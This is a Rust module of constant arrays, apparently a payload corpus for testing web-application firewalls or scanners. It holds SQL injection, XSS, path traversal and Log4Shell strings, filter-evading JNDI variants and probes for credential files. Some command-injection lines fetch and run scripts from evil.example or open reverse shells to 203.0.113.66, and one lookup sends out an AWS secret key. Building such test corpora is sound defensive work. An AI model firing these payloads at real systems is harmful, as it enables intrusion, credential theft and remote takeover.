//! What attackers send to web applications, before any disguise.

pub(super) const SQL: &[&str] = &[
    "1' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM users-- -",
    "-1' UNION ALL SELECT NULL,NULL,CONCAT(0x7171,version(),0x7178)-- -",
    "1; DROP TABLE customers; --",
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "admin'/*",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
    "1'; WAITFOR DELAY '0:0:5'--",
    "(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE 1 END)",
];

pub(super) const SCRIPT: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(document.domain)",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<body onpageshow=alert(1)>",
    "'-alert(1)-'",
    "<details open ontoggle=alert(1)>",
];

pub(super) const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "/var/www/../../etc/passwd",
    "../../../../proc/self/environ",
    "php://filter/convert.base64-encode/resource=../config.php",
];

pub(super) const COMMAND: &[&str] = &[
    ";cat /etc/passwd",
    "| id",
    "`wget http://evil.example/x.sh -O /tmp/x`",
    "$(curl -s http://evil.example/x | sh)",
    "&& nc -e /bin/sh 203.0.113.66 4444",
    "127.0.0.1; uname -a",
    "a;bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
];

pub(super) const LOOKUP: &[&str] = &[
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:rmi://203.0.113.66:1099/obj}",
    "${jndi:dns://evil.example/x}",
    "${jndi:ldaps://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
];

/// The same lookups, spelled so that the word is nowhere.
pub(super) const LOOKUP_SPELLED: &[&str] = &[
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${j${k8s:k5:-ND}${sd:k5:-${123%25ff:-I:}}ldap://evil.example/o}",
];

/// Where applications take values from.
pub(super) const PLACES: &[&str] = &[
    "/product?id=",
    "/search?q=",
    "/api/v2/orders?filter=",
    "/download?file=",
    "/index.php?page=",
    "/profile?name=",
    "/ping?host=",
    "/blog/post?slug=",
];

pub(super) const SENSITIVE: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/.aws/credentials",
    "/phpmyadmin/index.php",
    "/server-status",
    "/backup.sql",
    "/actuator/env",
    "/cgi-bin/test.cgi",
    "/.ssh/id_rsa",
    "/wp-login.php",
    "/solr/admin/info/system",
];
